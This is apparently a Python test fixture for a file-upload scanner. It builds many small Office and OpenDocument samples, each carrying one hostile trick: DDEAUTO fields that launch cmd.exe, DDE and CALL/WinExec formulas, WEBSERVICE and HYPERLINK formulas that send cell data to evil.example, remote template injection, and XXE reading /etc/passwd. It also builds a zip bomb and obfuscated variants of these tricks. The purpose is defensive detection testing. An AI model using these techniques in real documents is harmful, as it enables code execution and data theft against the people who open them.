"""Office documents that run, fetch or hide something, made when needed; each by one trick.

They carry no working attack: the point of each is where in a document it stands.
"""

import zipfile
from collections.abc import Mapping
from io import BytesIO

from tests.uploads.strangers import (
    OFFICE,
    OPEN,
    WORDS,
    Part,
    field,
    locked,
    office,
    open_document,
    package,
    picture,
    relationships,
    word,
    words,
)

REMOTE = "https://evil.example/x"
SHARE = "\\\\evil.example\\x"
_MS = "application/vnd.ms-"
_VBA = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
_STRICT = "http://purl.oclc.org/ooxml"
DDE = 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"'


def renamed(body: bytes, old: str, new: str) -> bytes:
    """Return a package in which a part has another name."""
    with zipfile.ZipFile(BytesIO(body)) as whole:
        parts = {one: whole.read(one) for one in whole.namelist()}
    return package({new if one == old else one: part for one, part in parts.items()})


def main_under(name: str, inner: str, *links: tuple[str, str, str]) -> bytes:
    return package(office(words(inner), *links, name=name))


def strict(inner: str) -> bytes:
    return package(
        office(words(inner).replace(WORDS.encode(), f"{_STRICT}/wordprocessingml/main".encode()))
    )


def encoded(encoding: str, inner: str = "") -> bytes:
    said = f'<?xml version="1.0" encoding="{encoding}"?>' + words(inner or field(DDE)).decode()
    return package(office(said.encode(encoding)))


def sheet(
    cells: str = "",
    *links: tuple[str, str, str],
    more: str = "",
    parts: Mapping[str, Part] | None = None,
) -> bytes:
    """Return an Excel document with these cells in its only sheet, and this in its book."""
    space = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    names = f'xmlns="{space}" xmlns:r="{OFFICE}"'
    body = f"<worksheet {names}><sheetData><row>{cells}</row></sheetData></worksheet>"
    book = f'<workbook {names}><sheets><sheet name="A" sheetId="1" r:id="rId9"/></sheets>{more}</workbook>'
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"
    return package(
        office(
            book.encode(),
            *links,
            name="xl/workbook.xml",
            kind="spreadsheetml.sheet.main",
            parts={
                "xl/worksheets/sheet1.xml": Part(body.encode(), kind, "worksheet"),
                **(parts or {}),
            },
        )
    )


def formula(said: str) -> bytes:
    return sheet(f"<c><f>{said}</f></c>")


def drawn(inner: str) -> bytes:
    return word(f"<w:p><w:r><w:pict>{inner}</w:pict></w:r></w:p>")


def image(href: str, prefix: str = "draw") -> bytes:
    space = f'xmlns:{prefix}="{OPEN}:drawing:1.0" xmlns:l="http://www.w3.org/1999/xlink"'
    return open_document(
        f'<text:p><{prefix}:frame {space}><{prefix}:image l:href="{href}"/></{prefix}:frame></text:p>'
    )


def cell(said: str) -> bytes:
    inner = f'<table:table><table:table-row><table:table-cell table:formula="{said}"/></table:table-row></table:table>'
    return open_document(inner, kind="spreadsheet")


def bomb() -> bytes:
    return word(parts={"word/media/a.png": Part(bytes(31_000_000), "image/png", "image")})


CHUNK = '<w:altChunk r:id="rId1"/>'
XLM = "application/vnd.ms-excel.macrosheet+xml"

WORD = {
    "macros": word(parts={"word/vbaProject.bin": Part(b"x", f"{_MS}office.vbaProject", _VBA)}),
    "macros by another name": word(parts={"word/theme.xml": Part(b"x", f"{_MS}office.vba&#80;roject", _VBA)}),
    "macros with an honest type": word(parts={"word/styles.xml": Part(b"x", "application/xml", _VBA)}),
    "macros to which nothing leads": word(parts={"word/a.bin": Part(b"x", f"{_MS}office.vbaProject")}),
    "macros below what is left out": package(
        office(words(), parts={"docProps/app.xml": Part(b"<a/>", "application/xml", "extended-properties")})
        | {"docProps/_rels/app.xml.rels": relationships((_VBA, "/docProps/a.bin", "")),
           "docProps/a.bin": b"x"}
    ),
    "a document that says it has macros": package(
        office(words(), kind=f"{_MS}word.document.macroEnabled.main+xml")
    ),
    "a template with macros": package(
        office(words(), kind=f"{_MS}word.template.macroEnabledTemplate.main+xml")
    ),
    "key maps": word(parts={"word/customizations.xml": Part(b"<a/>", "application/xml",
        "http://schemas.microsoft.com/office/2006/relationships/keyMapCustomizations")}),
    "a ribbon that runs": package(office(words()) | {
        "customUI/customUI14.xml": b"<customUI/>",
        "_rels/.rels": relationships(("officeDocument", "word/document.xml", ""), (
            "http://schemas.microsoft.com/office/2007/relationships/ui/extensibility",
            "customUI/customUI14.xml", ""))}),
    "a web add-in": package(office(words()) | {
        "word/webextensions/taskpanes.xml": b"<a/>",
        "_rels/.rels": relationships(("officeDocument", "word/document.xml", ""), (
            "http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes",
            "word/webextensions/taskpanes.xml", ""))}),
    "a form that calls a macro": word(
        '<w:p><w:r><w:fldChar w:fldCharType="begin"><w:ffData><w:entryMacro w:val="A"/></w:ffData>'
        '</w:fldChar></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'),
    "an OLE object": word("<w:p><w:r><w:object/></w:r></w:p>", parts={
        "word/embeddings/o.bin": Part(b"\xd0\xcf\x11\xe0", "application/vnd.oleObject", "oleObject")}),
    "an OLE object with a spelled type": word(parts={
        "word/a.dat": Part(b"\xd0\xcf", "application/octet-stream", f"{OFFICE}/ole&#79;bject")}),
    "an OLE object from elsewhere": word("", ("oleObject", REMOTE, "External")),
    "an OLE object in an old drawing": drawn('<o:OLEObject Type="Link" ProgID="Package" r:id="rId1"/>'),
    "a document in a document": word(parts={
        "word/embeddings/a.docx": Part(word(), "application/octet-stream", "package")}),
    "an ActiveX control": word('<w:p><w:r><w:control r:id="rId1"/></w:r></w:p>', parts={
        "word/activeX/a.xml": Part(b"<a/>", "application/vnd.ms-office.activeX+xml", "control")}),
    "rich text that is woven in": word(CHUNK, parts={
        "word/a.rtf": Part(b"{\\rtf1\\objautlink}", "application/rtf", "aFChunk")}),
    "a web page that is woven in": word(CHUNK, parts={
        "word/a.htm": Part(b"<img src='//evil.example'>", "text/html", "aFChunk")}),
    "a mail that is woven in": word(CHUNK, parts={
        "word/a.mht": Part(b"MIME-Version: 1.0", "message/rfc822", "aFChunk")}),
    "a document with macros that is woven in": word(CHUNK, parts={
        "word/a.docm": Part(word(), f"{_MS}word.document.macroEnabled.12", "aFChunk")}),
    "what is woven in, called a style": word(CHUNK, parts={
        "word/styles.xml": Part(b"{\\rtf1}", "application/rtf", f"{OFFICE}/aFChunk")}),
    "a part of a whole document": word('<w:subDoc r:id="rId1"/>', ("subDocument", REMOTE, "External")),
    "a template from elsewhere": word("", ("attachedTemplate", f"{REMOTE}.dotm", "External")),
    "a template from a share": word("", ("attachedTemplate", f"file:///{SHARE}.dotm", "External")),
    "a template from a share, by slashes": word("", ("attachedTemplate", "//evil.example/x.dotm", "External")),
    "a template, its relationships in capitals": renamed(
        word("", ("attachedTemplate", f"{REMOTE}.dotm", "External")),
        "word/_rels/document.xml.rels", "word/_RELS/DOCUMENT.XML.RELS"),
    "a template from elsewhere, below the settings": package(
        office(words(), parts={"word/settings.xml": Part(
            f'<w:settings xmlns:w="{WORDS}"/>'.encode(),
            "application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml", "settings")})
        | {"word/_rels/settings.xml.rels": relationships(("attachedTemplate", REMOTE, "External"))}),
    "a picture from elsewhere": word("", ("image", f"{REMOTE}.png", "External")),
    "a picture from a share": word("", ("image", f"file:{SHARE}.png", "External")),
    "a picture that an old drawing fetches": drawn(f'<v:shape><v:imagedata src="{REMOTE}"/></v:shape>'),
    "a filling that an old drawing fetches": drawn(f'<v:rect><v:fill src="{REMOTE}"/></v:rect>'),
    "an old drawing that leads away": drawn(f'<v:rect href="{REMOTE}"/>'),
    "an old drawing with a behaviour": drawn(f'<v:rect style="behavior:url({REMOTE})"/>'),
    "a frame from elsewhere": word("", ("frame", REMOTE, "External")),
    "a link into the machine": word("", ("hyperlink", "file:///C:/x", "External")),
    "a link to a program": word("", ("hyperlink", "ms-msdt:/id", "External")),
    "a link to a share": word("", ("hyperlink", SHARE, "External")),
    "a link that runs": word("", ("hyperlink", "javascript:alert(1)", "External")),
    "a link of a strange mode": word("", ("hyperlink", REMOTE, "external")),
    "a letter to many": word("", ("mailMergeSource", REMOTE, "External")),
    "a letter to many, asked for": package(office(words(), parts={"word/settings.xml": Part(
        f'<w:settings xmlns:w="{WORDS}"><w:mailMerge><w:query w:val="SELECT"/></w:mailMerge></w:settings>'
        .encode(), "application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml",
        "settings")})),
    "a field that starts a program": word(field("DD", "EAUTO c:\\\\cmd")),
    "a field in small letters": word(field(DDE.lower())),
    "a field in mixed letters": word(field("dDeAuTo c:\\\\cmd")),
    "a field spelled with references": word(field("&#68;&#x44;&#69; c:\\\\cmd")),
    "a field letter by letter": word(field(*DDE)),
    "a field in plain words": word(field(DDE, tag="t")),
    "a field that was taken out": word(field(DDE, tag="delInstrText")),
    "a field without an end": word(field(DDE).replace('w:fldCharType="end"', 'w:fldCharType="begin"')),
    "a field without a beginning": word(f"<w:p><w:r><w:instrText>{DDE}</w:instrText></w:r></w:p>"),
    "a simple field": word('<w:p><w:fldSimple w:instr="dde c:\\\\cmd"/></w:p>'),
    "a field of another prefix": package(
        office(words(field(DDE)).replace(b"w:", b"x:").replace(b"xmlns:w", b"xmlns:x"))),
    "a field in the strict form": strict(field(DDE)),
    "a simple field in the strict form": strict('<w:p><w:fldSimple w:instr="ddeauto c"/></w:p>'),
    "a field that a field spells": word(field(
        '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>QUOTE 68 68 69'
        '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:instrText>')),
    "a field that a bookmark spells": word(field(
        'I</w:instrText></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>REF a'
        '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:instrText>F 1=1')),
    "a picture by a field": word(field(f'includepicture "{REMOTE}" \\d')),
    "a text by a field": word(field(f'IncludeText "{SHARE}"')),
    "a document by a field": word(field(f'RD "{REMOTE}"')),
    "a link by a field": word(field('LINK Excel.Sheet.8 "c:\\\\x.xls"')),
    "a database by a field": word(field('DATABASE \\d "c:\\\\x.mdb"')),
    "a button of a macro": word(field("MACROBUTTON Auto Klik")),
    "a link of a field into the machine": word(field('HYPERLINK "file:///c:/x"')),
    "a link of a field after a switch": word(field(f'HYPERLINK \\o "tip" "{SHARE}"')),
    "a link of a field that a field spells": word(field(
        'HYPERLINK "https://</w:instrText></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r>'
        '<w:instrText>REF a</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:instrText>"')),
    "a main part by another name": main_under("word/document.dat", field(DDE)),
    "a main part in capitals": main_under("WORD/DOCUMENT.XML", field(DDE)),
    "a main part elsewhere": main_under("a/b/c.bin", CHUNK, ("attachedTemplate", REMOTE, "External")),
    "two main parts": package(office(words()) | {"_rels/.rels": relationships(
        ("officeDocument", "word/document.xml", ""), ("officeDocument", "word/document.xml", ""))}),
    "a part of no known kind": word(parts={"word/a.xml": Part(b"<a/>", "application/x-new", "new")}),
    "a part to which nothing leads": word(parts={"word/a.exe": Part(b"MZ")}),
    "an archive in a document": word(parts={"word/a.zip": Part(word())}),
    "an element of no known kind": word("<w:newest/>"),
    "an element of a strange namespace": word('<x:run xmlns:x="urn:x"/>'),
    "an attribute of no known kind": word('<w:p w:newest="1"/>'),
    "words that multiply": package(office(b'<!DOCTYPE d [<!ENTITY a "aa">]>' + words("&a;"))),
    "words from elsewhere": package(office(b'<!DOCTYPE d SYSTEM "https://evil.example/x">' + words())),
    "words of the machine": package(office(
        b'<!DOCTYPE d [<!ENTITY a SYSTEM "file:///etc/passwd">]>' + words("<w:p>&a;</w:p>"))),
    "an entity in the list of kinds": package({**office(words()),
        "[Content_Types].xml": b'<!DOCTYPE d [<!ENTITY a "b">]><Types/>'}),
    "words in UTF-16": encoded("utf-16"),
    "words in UTF-7": encoded("utf-7"),
    "words in EBCDIC": encoded("cp500"),
    "words that only say UTF-7": package(office(b'<?xml version="1.0" encoding="UTF-7"?>' + words())),
    "the same name twice": package(office(words()) | {"word/documents.xm": words(field(DDE))})
        .replace(b"word/documents.xm", b"word/document.xml"),
    "the same name in other letters": package(office(words()) | {"Word/Document.xml": words(field(DDE))}),
    "a name outside": package(office(words()) | {"word/../../x.xml": b"<a/>"}),
    "a name of Windows": package(office(words()) | {"word\\x.xml": b"<a/>"}),
    "a part with a password": locked(word()),
    "a bomb": bomb(),
    "depth without end": word("<w:p>" * 300 + "</w:p>" * 300),
    "very many elements": word("<w:p/>" * 1_000_001),
    "very many parts": package({f"word/{n}.xml": b"" for n in range(2001)} | office(words())),
}  # fmt: skip

EXCEL = {
    "macros of Excel 4": sheet(parts={"xl/macrosheets/a.xml": Part(b"<a/>", XLM,
        "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet")}),
    "macros of Excel 4, called a sheet": sheet(parts={"xl/worksheets/b.xml": Part(
        b"<a/>", XLM.replace("macros", "macro&#115;"), "worksheet")}),
    "a name that is a macro": sheet(more='<definedNames><definedName name="Auto_Open" xlm="1">A!A1</definedName></definedNames>'),
    "a name that is a program's function": sheet(more='<definedNames><definedName name="a" vbProcedure="true">0</definedName></definedNames>'),
    "a name that fetches": sheet(more="<definedNames><definedName name='a'>WEBSERVICE(A!A1)</definedName></definedNames>"),
    "a book that is linked": sheet(parts={"xl/externalLinks/a.xml": Part(b"<a/>",
        "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml", "externalLink")}),
    "a connection to the web": sheet(parts={"xl/connections.xml": Part(
        b'<connections><connection refreshOnLoad="1"/></connections>',
        "application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml", "connections")}),
    "a question to the web": sheet(parts={"xl/queryTables/a.xml": Part(b"<queryTable/>",
        "application/vnd.openxmlformats-officedocument.spreadsheetml.queryTable+xml", "queryTable")}),
    "a mash-up": sheet(parts={"customXml/item1.xml": Part(
        "<DataMashup xmlns='http://schemas.microsoft.com/DataMashup'>UEsD</DataMashup>".encode("utf-16"),
        "application/xml", "customXml")}),
    "a program's data": formula("cmd|'/c calc'!A0"),
    "a program's data, by a function": formula('DDE("cmd";"/c calc";"A")'),
    "the web, by a function": formula('WEBSERVICE("https://evil.example/"&amp;A1)'),
    "the web, with a prefix": formula('_xlfn.WEBSERVICE("https://evil.example/")'),
    "the web, in small letters": formula('webservice ("https://evil.example/")'),
    "the web, spelled with references": formula('WEB&#83;ERVICE("https://evil.example/")'),
    "the web, behind a column": formula('T[["]]+WEBSERVICE("x")+T[["]]'),
    "the web, behind a sheet": formula("'x\"'!A1+WEBSERVICE(\"https://evil.example\")"),
    "a picture of the web": formula('_xlfn.IMAGE("https://evil.example/x.png")'),
    "a server of data": formula('RTD("x",,"y")'),
    "a function of a program": formula('CALL("kernel32","WinExec","JCJ","calc",0)'),
    "a function of a macro": formula("_xll.Sesuatu(1)"),
    "a link that tells": formula('HYPERLINK("https://evil.example/"&amp;A1,"x")'),
    "a link into the machine by a function": formula('HYPERLINK("file:///c:/x","x")'),
    "another book": formula("[1]Sheet1!A1"),
    "another book on a share": formula("'\\\\evil.example\\[x.xlsx]A'!A1"),
}  # fmt: skip

OPEN_DOCUMENT = {
    "macros of Basic": open_document(parts={"Basic/Standard/a.xml": b"<a/>"}),
    "macros of Basic, from here": open_document(parts={"./Basic/Standard/a.xml": b"<a/>"}),
    "macros of Python": open_document(parts={"Scripts/python/a.py": b"import os"}),
    "dialogues": open_document(parts={"Dialogs/Standard/a.xml": b"<a/>"}),
    "a script": open_document(before='<office:scripts><office:script script:language="ooo:Basic"/></office:scripts>'),
    "a listener": open_document(
        before='<office:scripts><office:event-listeners><script:event-listener script:event-name="dom:load"'
        ' xlink:href="vnd.sun.star.script:a.py$x?language=Python"/></office:event-listeners></office:scripts>'),
    "a listener of another prefix": open_document(
        before=f'<office:scripts><office:event-listeners><x:event-listener xmlns:x="{OPEN}:script:1.0"'
        ' x:macro-name="A"/></office:event-listeners></office:scripts>'),
    "a link to a script": open_document('<text:p><text:a xlink:href="vnd.sun.star.script:a?x">x</text:a></text:p>'),
    "a link to a macro": open_document('<text:p><text:a xlink:href="macro:///a">x</text:a></text:p>'),
    "a macro in the text": open_document('<text:p><text:execute-macro text:name="a"/></text:p>'),
    "a script in the text": open_document('<text:p><text:script script:language="x">y</text:script></text:p>'),
    "an action of a slide": open_document(
        '<draw:page><draw:rect><office:event-listeners><presentation:event-listener presentation:action='
        '"execute"/></office:event-listeners></draw:rect></draw:page>', kind="presentation"),
    "a command of a slide": open_document(
        '<draw:page><anim:par><anim:command anim:command="x"/></anim:par></draw:page>', kind="presentation"),
    "a picture of the web, by OpenDocument": image(REMOTE),
    "a picture of another prefix": image(REMOTE, "x"),
    "a picture spelled with references": image("&#104;ttps://evil.example/x"),
    "a picture on a share": image("//evil.example/x"),
    "a picture of the machine": image("file:///etc/passwd"),
    "a picture beside the document": image("../x.png"),
    "a section from elsewhere": open_document(f'<text:section><text:section-source xlink:href="{REMOTE}"/></text:section>'),
    "a table from elsewhere": open_document(f'<table:table><table:table-source xlink:href="{REMOTE}"/></table:table>', kind="spreadsheet"),
    "a program's data in a text": open_document("<text:dde-connection-decls><text:dde-connection-decl/></text:dde-connection-decls>"),
    "a program's data in a table": open_document("<table:dde-links><table:dde-link/></table:dde-links>", kind="spreadsheet"),
    "a frame that floats": open_document(f'<text:p><draw:frame><draw:floating-frame xlink:href="{REMOTE}"/></draw:frame></text:p>'),
    "an applet": open_document("<text:p><draw:frame><draw:applet/></draw:frame></text:p>"),
    "a plug-in": open_document("<text:p><draw:frame><draw:plugin/></draw:frame></text:p>"),
    "an OLE object of OpenDocument": open_document(
        '<text:p><draw:frame><draw:object-ole xlink:href="Object 1"/></draw:frame></text:p>', {"Object 1": b"\xd0\xcf"}),
    "an object as it is": open_document(parts={"Object 1": b"\xd0\xcf\x11\xe0"}),
    "a script in an object": open_document(parts={"Object 1/content.xml": b"<office:script xmlns:office='urn:x'/>"}),
    "a form that sends itself": open_document(f'<office:forms><form:form xlink:href="{REMOTE}"/></office:forms>'),
    "a form with a database": open_document('<office:forms><form:form form:datasource="x" form:command="y"/></office:forms>'),
    "a form that makes a service": open_document('<office:forms><form:form form:control-implementation="ooo:com.sun.star.system.Shell"/></office:forms>'),
    "a program's data by a function of OpenDocument": cell("of:=DDE(&quot;soffice&quot;;&quot;x&quot;;&quot;y&quot;)"),
    "the web by a function of OpenDocument": cell("of:=WEBSERVICE(&quot;https://evil.example&quot;)"),
    "another file by a formula": cell("of:=['https://evil.example/x.ods'#$A.A1]"),
    "the web with a prefix of OpenDocument": cell("of:=COM.MICROSOFT.WEBSERVICE([.A1])"),
    "a condition that fetches": open_document(
        '<table:content-validations><table:content-validation table:condition="of:is-true-formula(WEBSERVICE([.A1]))"/>'
        "</table:content-validations>", kind="spreadsheet"),
    "entities of OpenDocument": package({"mimetype": b"application/vnd.oasis.opendocument.text",
        "content.xml": f'<!DOCTYPE d [<!ENTITY a "b">]><o:document-content xmlns:o="{OPEN}:office:1.0"/>'
        .encode()}),
    "an encrypted OpenDocument": open_document(parts={"META-INF/manifest.xml":
        f'<m:manifest xmlns:m="{OPEN}:manifest:1.0"><m:file-entry m:full-path="content.xml"><m:encryption-data/>'
        "</m:file-entry></m:manifest>".encode()}),
    "signed macros": open_document(parts={"META-INF/macrosignatures.xml": b"<a/>"}),
    "a film": open_document(parts={"Media/a.mp4": b"x"}),
    "a part of OpenDocument that nobody knows": open_document(parts={"new.xml": b"<a/>"}),
}  # fmt: skip

HOSTILE = {**WORD, **EXCEL, **OPEN_DOCUMENT}
ORDINARY = {
    "word": word(),
    "excel": sheet("<c><f>SUM(A1:A2)</f></c>"),
    "open document": open_document(),
    "picture": word(parts={"word/media/a.png": Part(picture("PNG"), "image/png", "image")}),
    "strict": strict(field("PAGE")),
    "another name": main_under("a/b.bin", field("page"), ("hyperlink", REMOTE, "External")),
    "another prefix": package(
        office(words(field("DATE")).replace(b"w:", b"x:").replace(b"xmlns:w", b"xmlns:x"))
    ),
}
"""The same makings without a trick: what refuses a hostile one is its trick."""
